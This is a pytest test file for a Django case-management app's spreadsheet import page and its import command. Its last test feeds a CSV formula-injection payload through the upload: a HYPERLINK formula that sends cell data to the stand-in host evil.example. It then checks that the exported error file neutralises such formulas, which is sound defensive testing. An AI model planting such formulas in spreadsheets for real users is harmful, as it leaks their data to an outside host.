"""The operators' upload page and the `cityops import cases` command."""

from __future__ import annotations

import csv
import io
import time

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from openpyxl import load_workbook

from cityops.accounts.tests.factories import UserFactory
from cityops.cases.models import Case
from cityops.intake.tests.sheets import HEADERS, csv_bytes, good_row, xlsx_bytes

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.fixture
def operator(db):
    return UserFactory(role="operator")


@pytest.fixture
def signed_in(client, operator):
    client.force_login(operator)
    return client


def _upload(client, data: bytes, name: str = "cases.xlsx", **fields):
    upload = SimpleUploadedFile(name, data, content_type=XLSX)
    return client.post(reverse("intake:import"), {"file": upload, **fields})


@pytest.mark.django_db
def test_only_operators_open_the_page(client):
    assert client.get(reverse("intake:import")).status_code == 302
    client.force_login(UserFactory(role="leader"))
    assert client.get(reverse("intake:import")).status_code == 403
    client.force_login(UserFactory(role="operator"))
    page = client.get(reverse("intake:import"))
    assert page.status_code == 200 and "下载 Excel 模板" in page.content.decode()


@pytest.mark.django_db
def test_templates_have_the_chinese_headers(signed_in, category):
    xlsx = signed_in.get(reverse("intake:import_template", args=["xlsx"]))
    wb = load_workbook(io.BytesIO(xlsx.content))
    assert wb.sheetnames == ["案件", "说明", "分类编码"]
    assert [c.value for c in wb["案件"][1]] == HEADERS
    assert [c.value for c in wb["分类编码"][2]][:2] == ["E9901", "暴露垃圾"]
    csv = signed_in.get(reverse("intake:import_template", args=["csv"])).content
    assert csv.startswith(b"\xef\xbb\xbf") and csv.decode("utf-8-sig").strip() == ",".join(HEADERS)
    assert signed_in.get(reverse("intake:import_template", args=["xls"])).status_code == 404


@pytest.mark.django_db
def test_a_good_file_is_imported_and_the_result_shown(signed_in, geo, category):
    response = _upload(signed_in, xlsx_bytes([good_row(), good_row()]))
    assert response.status_code == 302
    page = signed_in.get(response["Location"]).content.decode()
    assert "导入成功：新增 2 件案件" in page and Case.objects.count() == 2
    assert "cases.xlsx" in signed_in.get(reverse("intake:import")).content.decode()  # in "my recent imports"


@pytest.mark.django_db
def test_a_bad_file_lists_its_errors_and_offers_them_as_csv(signed_in, geo, category):
    response = _upload(signed_in, xlsx_bytes([good_row(), good_row(上报时间="上周五"), good_row(分类编码="E99")]))
    page = signed_in.get(response["Location"]).content.decode()
    assert "校验未通过" in page and "无法识别的日期文本" in page and "是大类" in page
    assert not Case.objects.exists()
    job_id = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    errors = signed_in.get(reverse("intake:import_errors", args=[job_id])).content.decode("utf-8-sig")
    assert errors.splitlines()[1].startswith("3,N,上报时间,上周五,")
    assert errors.splitlines()[2].startswith("4,D,分类编码,E99,")


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "data", "message"),
    [("old.xls", b"\xd0\xcf\x11\xe0" + b"\0" * 100, "不支持旧版 .xls"), ("notes.docx", b"PK\x03\x04", "只能导入"),
     ("empty.csv", b"", "文件是空的")],
)
def test_unsuitable_uploads_are_refused_on_the_form(signed_in, name, data, message):
    response = _upload(signed_in, data, name)
    assert response.status_code == 400 and message in response.content.decode()


@pytest.mark.django_db
def test_garbage_with_a_good_name_is_refused_by_its_content(signed_in, geo):
    response = _upload(signed_in, b"\x00\x01garbage" * 50, "cases.xlsx")
    assert response.status_code == 400 and "内容不是 Excel 工作簿" in response.content.decode()
    response = _upload(signed_in, b"\x00\x01garbage" * 50, "cases.csv")
    assert response.status_code == 400 and "内容不是文本" in response.content.decode()


@pytest.mark.django_db
def test_a_broken_zip_with_a_good_name_is_refused_with_a_message_not_a_500(signed_in, geo):
    response = _upload(signed_in, b"PK\x03\x04" + b"\x00\x01garbage" * 50, "cases.xlsx")
    # Refused on the form, or by the job it started: either way a page that says why.
    page = signed_in.get(response["Location"]) if response.status_code == 302 else response
    assert page.status_code in (200, 400) and "不是有效的 .xlsx 文件" in page.content.decode()


@pytest.mark.django_db
def test_jobs_are_private(client, signed_in, geo, category):
    location = _upload(signed_in, xlsx_bytes([good_row()]))["Location"]
    client.force_login(UserFactory(role="operator"))
    assert client.get(location).status_code == 404


@pytest.mark.django_db(transaction=True)
def test_big_files_run_in_the_background_and_the_page_polls(client, settings, geo, category):
    settings.CITYOPS_IMPORT_INLINE_BYTES = 0
    client.force_login(UserFactory(role="operator"))
    location = _upload(client, csv_bytes([good_row() for _ in range(30)]), "cases.csv")["Location"]
    first = client.get(location).content.decode()
    assert 'id="import-job"' in first
    for _ in range(600):
        partial = client.get(location, HTTP_HX_REQUEST="true").content.decode()
        if 'hx-trigger="every 1s"' not in partial:  # done: the page stops polling
            break
        time.sleep(0.1)
    assert "导入成功：新增 30 件案件" in partial and "正在更新统计汇总" not in partial
    assert Case.objects.count() == 30
    cache.clear()


# ---------------------------------------------------------------- command line


@pytest.mark.django_db
def test_command_imports_and_reports(tmp_path, geo, category, capsys):
    source = tmp_path / "cases.xlsx"
    source.write_bytes(xlsx_bytes([good_row(), good_row()]))
    call_command("import_cases", str(source), "--no-progress")
    out = capsys.readouterr().out
    assert "导入成功：新增 2 件案件" in out and "案件编号 CD20261120-0001" in out


@pytest.mark.django_db
def test_command_fails_with_the_errors_and_writes_them_out(tmp_path, geo, category, capsys):
    source = tmp_path / "cases.csv"
    source.write_bytes(csv_bytes([good_row(), good_row(联系电话="电话")]))
    errors = tmp_path / "errors.csv"
    with pytest.raises(CommandError, match="校验未通过"):
        call_command("import_cases", str(source), "--no-progress", "--errors", str(errors))
    assert "第 3 行 M列「联系电话」" in capsys.readouterr().out
    assert "3,M,联系电话,电话," in errors.read_text(encoding="utf-8-sig")
    call_command("import_cases", str(source), "--no-progress", "--skip-invalid")
    assert Case.objects.count() == 1


@pytest.mark.django_db
def test_command_writes_the_template(tmp_path, category):
    call_command("import_cases", "--template", str(tmp_path / "t.xlsx"))
    assert load_workbook(tmp_path / "t.xlsx").sheetnames[0] == "案件"


@pytest.mark.django_db
def test_a_job_whose_process_died_is_reported_as_interrupted(signed_in, operator):
    from cityops.intake import import_jobs

    job = {"id": "deadbeef", "owner_id": operator.pk, "filename": "big.xlsx", "size": 1, "state": "running", "phase": "write",
           "done": 5000, "total": 100000, "started": time.time() - 3600, "finished": None, "skip_invalid": False,
           "dry_run": False, "result": None}
    cache.set(import_jobs._key("deadbeef"), {**job, "updated": time.time() - 3000}, 60)
    page = signed_in.get(reverse("intake:import_job", args=["deadbeef"])).content.decode()
    assert "导入任务已中断" in page and 'hx-trigger="every 1s"' not in page


@pytest.mark.django_db
def test_the_errors_csv_neutralises_formulas_from_the_uploaded_file(signed_in, geo, category):
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    rows = [good_row(上报时间=hostile), good_row(外部编号="+1-2", 坐标系="@SUM(1)"), good_row(联系电话="-3+4")]
    response = _upload(signed_in, csv_bytes(rows), "cases.csv")
    job_id = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    text = signed_in.get(reverse("intake:import_errors", args=[job_id])).content.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text)) for cell in line]
    assert "'" + hostile in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
